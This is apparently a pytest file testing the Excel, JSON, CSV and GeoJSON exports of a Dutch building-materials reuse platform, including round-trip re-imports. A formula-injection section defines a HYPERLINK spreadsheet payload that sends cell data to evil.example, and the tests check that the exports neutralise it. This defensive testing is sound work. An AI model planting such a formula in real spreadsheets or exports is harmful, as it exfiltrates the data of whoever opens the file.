"""Exports: passport as Excel (re-importable) and JSON, supply as CSV and GeoJSON, a hub's
stock as CSV."""

import csv
import io
import json
from datetime import date
from decimal import Decimal

import openpyxl

from urbanmine.catalogue.models import ProductGroup
from urbanmine.engine.inventory import TEMPLATE_COLUMNS, parse_inventory
from urbanmine.lots.exports import PASSPORT_COLUMNS, SUPPLY_COLUMNS, SUPPLY_HEADERS_NL
from urbanmine.lots.hub_exports import HUB_STOCK_COLUMNS
from urbanmine.lots.models import Lot
from urbanmine.lots.services import lot_identify, lots_import_inventory


def _passport(chain):
    lot_identify(
        asset=chain.building,
        product_group=chain.steel,
        quantity="12.5",
        unit="m",
        mass_kg_per_unit="36.4",
        quality="A",
        organisation=chain.owner,
        description="HEA 200; hal",
        expected_release_date=date(2027, 5, 1),
    )
    lot_identify(
        asset=chain.building,
        product_group=ProductGroup.objects.get(code="roof-tiles-ceramic"),
        quantity=800,
        unit="piece",
        mass_kg_per_unit="3.2",
        quality="C",
        organisation=chain.owner,
        description="Dakpannen met asbesthoudende kit",
        has_asbestos=True,
    )


def _key(lot_like):
    return (
        lot_like["product_group"],
        lot_like["description"],
        Decimal(str(lot_like["quantity"])).normalize(),
        lot_like["unit"],
        Decimal(str(lot_like["mass_kg_per_unit"])).normalize(),
        lot_like["quality"],
        bool(lot_like["hazardous"]),
        lot_like["expected_release_date"],
    )


def _lot_key(lot: Lot):
    return _key(
        {
            "product_group": lot.product_group.code,
            "description": lot.description,
            "quantity": lot.quantity,
            "unit": lot.unit,
            "mass_kg_per_unit": lot.mass_kg_per_unit,
            "quality": lot.quality,
            "hazardous": lot.is_hazardous,
            "expected_release_date": lot.expected_release_date,
        }
    )


def test_passport_xlsx_reads_back(client_for, chain, harvested_lot):
    _passport(chain)
    r = client_for(chain.owner_user).get(f"/api/v1/assets/{chain.building.pk}/passport.xlsx")
    assert r.status_code == 200
    assert r["Content-Type"].startswith("application/vnd.openxmlformats")
    assert 'filename="urbanmine-passport-' in r["Content-Disposition"]
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["passport", "metadata", "history"]
    rows = list(wb["passport"].iter_rows(values_only=True))
    assert list(rows[0]) == list(PASSPORT_COLUMNS)
    assert list(rows[0][: len(TEMPLATE_COLUMNS)]) == list(TEMPLATE_COLUMNS)
    assert len(rows) == 4
    by_code = {
        row[PASSPORT_COLUMNS.index("lot_code")]: dict(zip(rows[0], row, strict=True))
        for row in rows[1:]
    }
    bricks = by_code[harvested_lot.code]
    assert bricks["product_group"] == "bricks-clay" and bricks["quantity"] == 10000
    assert bricks["mass_kg_per_unit"] == 2.1 and bricks["hazardous"] == "false"
    assert bricks["status"] == "harvested" and bricks["hub"] == "Hub Waalhaven"
    assert bricks["mass_kg_total"] == 21000
    meta = dict(wb["metadata"].iter_rows(min_row=2, values_only=True))
    assert meta["asset_name"] == "Flat Rotterdam" and meta["lots"] == 3
    assert meta["municipality_code"] == "GM0599"
    history = list(wb["history"].iter_rows(values_only=True))
    assert history[0][:3] == ("occurred_at", "lot_code", "step")
    assert {h[2] for h in history[1:]} == {"identification", "dismantling"}


def test_passport_round_trip_through_excel(client_for, chain, harvested_lot):
    """Exported to Excel and imported into a new asset: the same lots."""
    _passport(chain)
    r = client_for(chain.owner_user).get(f"/api/v1/assets/{chain.building.pk}/passport.xlsx")
    codes = set(ProductGroup.objects.values_list("code", flat=True))
    result = parse_inventory(r.content, "passport.xlsx", known_product_groups=codes)
    assert result.ok, [str(e) for e in result.errors]
    assert result.format == "xlsx" and len(result.rows) == 3
    lots = lots_import_inventory(
        asset_id=chain.project.pk, rows=result.rows, source_name="passport.xlsx"
    )
    original = sorted(_lot_key(lot) for lot in Lot.objects.filter(source_asset=chain.building))
    copied = sorted(_lot_key(Lot.objects.get(pk=lot.id)) for lot in lots)
    assert copied == original


def test_passport_json(client_for, chain, harvested_lot):
    _passport(chain)
    r = client_for(chain.owner_user).get(f"/api/v1/assets/{chain.building.pk}/passport.json")
    assert r.status_code == 200 and r["Content-Type"] == "application/json"
    doc = r.json()
    assert doc["format"] == "urbanmine-passport" and doc["format_version"] == 1
    assert doc["asset"]["asset_id"] == chain.building.pk and doc["asset"]["lots"] == 3
    assert doc["columns"][: len(TEMPLATE_COLUMNS)] == list(TEMPLATE_COLUMNS)
    steel = next(x for x in doc["lots"] if x["product_group"] == "steel-beams")
    assert steel["quantity"] == 12.5 and steel["expected_release_date"] == "2027-05-01"
    tiles = next(x for x in doc["lots"] if x["product_group"] == "roof-tiles-ceramic")
    assert tiles["hazardous"] is True and tiles["has_asbestos"] is True
    assert len(doc["history"]) == 4
    assert Decimal(str(doc["asset"]["total_mass_kg"])) == Decimal("21000") + Decimal(
        "455.0"
    ) + Decimal("2560")


def test_supply_csv(anon, chain, harvested_lot):
    r = anon.get("/api/v1/supply.csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert list(rows[0].keys()) == list(SUPPLY_COLUMNS)
    assert len(rows) == 1
    row = rows[0]
    assert row["lot_code"] == harvested_lot.code and row["quantity"] == "10000"
    assert row["mass_kg_per_unit"] == "2.1" and row["mass_kg_total"] == "21000"
    assert row["municipality"] == "Rotterdam" and float(row["lat"]) == 51.89
    # filters apply to the export too
    empty = anon.get("/api/v1/supply.csv?product_group=steel-beams").content.decode("utf-8-sig")
    assert empty.strip().splitlines() == [",".join(SUPPLY_COLUMNS)]


def test_supply_geojson(anon, chain, harvested_lot):
    r = anon.get("/api/v1/supply.geojson")
    assert r.status_code == 200 and r["Content-Type"] == "application/geo+json"
    doc = json.loads(r.content)
    assert doc["type"] == "FeatureCollection"
    assert len(doc["features"]) == 1
    f = doc["features"][0]
    assert f["type"] == "Feature" and f["geometry"]["type"] == "Point"
    lon, lat = f["geometry"]["coordinates"]
    assert (lon, lat) == (4.43, 51.89)  # RFC 7946: [lon, lat]
    assert f["properties"]["lot_code"] == harvested_lot.code
    assert f["properties"]["quantity"] == 10000
    from shapely.geometry import shape

    assert shape(f["geometry"]).is_valid


def test_hub_stock_csv(client_for, chain, harvested_lot):
    r = client_for(chain.outsider_user).get(f"/api/v1/hubs/{chain.hub.pk}/stock.csv")
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert 'filename="urbanmine-hub-' in r["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert list(rows[0].keys()) == list(HUB_STOCK_COLUMNS)
    assert rows[0]["lot_code"] == harvested_lot.code
    assert rows[0]["dwell_days"] == "0" and rows[0]["dwell_level"] == "ok"
    # another hub can take the stock over: the file is a valid inventory
    codes = set(ProductGroup.objects.values_list("code", flat=True))
    result = parse_inventory(r.content, "stock.csv", known_product_groups=codes)
    assert result.ok, [str(e) for e in result.errors]
    assert result.rows[0].quantity == 10000 and result.rows[0].mass_kg_per_unit == Decimal("2.1")


# ----------------------------------------------------------- formula injection (finding)
#: A description a spreadsheet would run: Excel turns it into a link that sends the data.
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


def _evil_lot(chain, harvested_lot, description=EVIL):
    Lot.objects.filter(pk=harvested_lot.pk).update(description=description)
    chain.hub.name = "@Hub Waalhaven"
    chain.hub.save()
    chain.owner.name = "+Woningcorporatie"
    chain.owner.save()


def test_the_supply_csv_neutralises_formulas(anon, client, chain, harvested_lot):
    _evil_lot(chain, harvested_lot)
    client.cookies["django_language"] = "nl"  # the web's CSV for Dutch users: ; and Dutch headers
    codes = {nl: code for code, nl in SUPPLY_HEADERS_NL.items()}
    for content, delimiter in (
        (anon.get("/api/v1/supply.csv").content, ","),
        (client.get("/supply/?format=csv").content, ";"),
    ):
        (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter)
        row = {codes.get(k, k): v for k, v in row.items()}
        assert row["description"] == "'" + EVIL and row["hub"] == "'@Hub Waalhaven"
        # numbers stay numbers
        assert row["quantity"] == "10000" and row["mass_kg_total"] == "21000"
        assert float(row["lat"].replace(",", ".")) == 51.89


def test_the_supply_geojson_is_not_a_spreadsheet(anon, chain, harvested_lot):
    _evil_lot(chain, harvested_lot)
    (feature,) = anon.get("/api/v1/supply.geojson").json()["features"]
    assert feature["properties"]["description"] == EVIL


def test_the_hub_stock_csv_neutralises_formulas_and_still_reimports(
    client_for, chain, harvested_lot
):
    _evil_lot(chain, harvested_lot)
    r = client_for(chain.outsider_user).get(f"/api/v1/hubs/{chain.hub.pk}/stock.csv")
    (row,) = csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))
    assert row["description"] == "'" + EVIL
    assert row["owner"] == "'+Woningcorporatie" and row["hub"] == "'@Hub Waalhaven"
    assert row["quantity"] == "10000" and row["dwell_days"] == "0"
    codes = set(ProductGroup.objects.values_list("code", flat=True))
    result = parse_inventory(r.content, "stock.csv", known_product_groups=codes)
    assert result.ok and result.rows[0].description == EVIL


def test_the_passport_workbook_holds_no_formula(client_for, chain, harvested_lot):
    _evil_lot(chain, harvested_lot)
    chain.building.name = "=1+1"
    chain.building.save()
    r = client_for(chain.owner_user).get(f"/api/v1/assets/{chain.building.pk}/passport.xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    description = wb["passport"].cell(row=2, column=PASSPORT_COLUMNS.index("description") + 1)
    assert description.data_type == "s" and description.value == "'" + EVIL
    quantity = wb["passport"].cell(row=2, column=PASSPORT_COLUMNS.index("quantity") + 1)
    assert quantity.data_type == "n" and quantity.value == 10000
    meta = dict(wb["metadata"].iter_rows(min_row=2, values_only=True))
    assert meta["asset_name"] == "'=1+1" and meta["owner"] == "'+Woningcorporatie"


def test_the_passport_with_formulas_round_trips(client_for, chain, harvested_lot):
    """The quote the export adds is dropped on re-import: the same descriptions."""
    _passport(chain)
    _evil_lot(chain, harvested_lot)
    Lot.objects.filter(product_group__code="steel-beams").update(description="-12 mm; @hal")
    r = client_for(chain.owner_user).get(f"/api/v1/assets/{chain.building.pk}/passport.xlsx")
    codes = set(ProductGroup.objects.values_list("code", flat=True))
    result = parse_inventory(r.content, "passport.xlsx", known_product_groups=codes)
    assert result.ok, [str(e) for e in result.errors]
    lots = lots_import_inventory(
        asset_id=chain.project.pk, rows=result.rows, source_name="passport.xlsx"
    )
    original = sorted(_lot_key(lot) for lot in Lot.objects.filter(source_asset=chain.building))
    copied = sorted(_lot_key(Lot.objects.get(pk=lot.id)) for lot in lots)
    assert copied == original
    assert {lot[1] for lot in copied} >= {EVIL, "-12 mm; @hal"}
